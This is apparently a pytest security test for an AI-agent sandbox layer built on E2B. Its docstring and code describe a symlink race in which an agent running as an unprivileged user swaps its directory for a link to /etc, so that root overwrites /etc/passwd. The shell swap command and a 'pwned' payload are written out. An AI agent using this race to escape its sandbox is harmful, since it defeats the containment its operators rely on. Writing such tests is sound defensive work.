"""B1: ``files.write(path, data, user="user")`` through the E2B layer is three steps: a
check as the user (``_MAY_WRITE``: may they write in the parent?), root's write of the
bytes (``file_write_stream``, symlinks resolved inside the sandbox's root), then root's
chown (``CHOWN_SCRIPT``, which refuses a directory swapped for a symlink). A hostile agent
running as ``user`` owns the parent directory, so it swaps it for a symlink to /etc between
the check and the write: root then writes the caller's bytes into /etc (here replacing
/etc/passwd), and only the chown afterwards is refused - the file stays written.
docs/e2b.md says a swapped directory "is refused".

The race is made deterministic by running the agent's swap right after the user check
returns (what a looping agent wins within a few tries)."""

from __future__ import annotations

import pytest

from dsec.bench._e2b_calls import E2BTarget

pytestmark = pytest.mark.root


def test_user_write_into_a_swapped_directory_writes_nothing_as_root(
        e2b_target: E2BTarget, monkeypatch: pytest.MonkeyPatch) -> None:
    from e2b import Sandbox

    from dsec.control.e2b import app as e2bapp

    real_shell = e2bapp.E2BApp._shell
    swapped: list[str] = []

    async def shell(self, caller, sandbox, script, args, user):  # type: ignore[no-untyped-def]
        await real_shell(self, caller, sandbox, script, args, user)
        if script == e2bapp._MAY_WRITE and not swapped:
            # the agent (uid "user") wins the race: its directory becomes a symlink
            swapped.append(args[0])
            await real_shell(self, caller, sandbox,
                             'mv -- "$1" "$1.real" && ln -s /etc "$1"', [args[0]], "user")

    monkeypatch.setattr(e2bapp.E2BApp, "_shell", shell)
    sb = Sandbox.create(e2b_target.template, timeout=120, **e2b_target.opts())
    try:
        sb.commands.run("mkdir -p /tmp/u/d && chown -R user /tmp/u", user="root")
        before = sb.files.read("/etc/passwd", user="root")
        assert "root:" in before
        try:
            sb.files.write("/tmp/u/d/passwd", "pwned-by-the-agent\n", user="user")
        except Exception:
            pass        # the chown's refusal: expected, but not enough
        assert swapped == ["/tmp/u/d"]
        after = sb.files.read("/etc/passwd", user="root")   # no exec: a user lookup
        assert after == before, (
            "root wrote the user's file through the swapped directory into /etc/passwd: "
            f"{after[:80]!r}")
    finally:
        sb.kill()
